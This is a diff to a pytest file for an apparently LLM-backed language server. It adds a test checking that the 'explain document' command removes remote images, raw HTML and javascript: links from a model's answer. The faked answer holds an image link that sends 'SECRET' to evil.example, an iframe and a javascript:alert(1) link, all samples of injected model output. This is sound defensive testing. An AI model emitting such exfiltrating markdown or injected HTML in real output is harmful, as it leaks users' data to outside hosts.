@@ -3,6 +3,8 @@ its fence in the prompt, and a model's remote image or raw HTML never reaches th
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 from lsprotocol import types
 from markdown_it import MarkdownIt
@@ -71,3 +73,24 @@ async def test_hover_never_shows_remote_images_or_raw_html(
     rendered = MarkdownIt("commonmark", {"html": True}).parse(value)
     kinds = {t.type for t in rendered} | {c.type for t in rendered for c in t.children or []}
     assert not kinds & {"image", "html_inline", "html_block"}
+
+
+async def test_explain_document_never_shows_remote_images_or_raw_html(
+    ai_session: Session, fake: FakeProvider
+) -> None:
+    answer = (
+        "**Summary**: totals the basket.\n\n![x](https://evil.example/e.png?d=SECRET) "
+        '<iframe src="https://evil.example/"></iframe>[more](javascript:alert(1))'
+    )
+    fake.script(Step(text=answer))
+    result = await ai_session.client.workspace_execute_command_async(
+        types.ExecuteCommandParams(
+            command="llmLsp.explain",
+            arguments=[{"uri": ai_session.uri("shop/basket.py"), "start": 16, "end": 19}],
+        )
+    )
+    assert result["ok"] is True
+    document = Path(result["uri"].removeprefix("file://")).read_text()
+    assert "**Summary**: totals the basket." in document
+    assert "evil.example" not in document and "javascript:" not in document
+    assert "<iframe" not in document
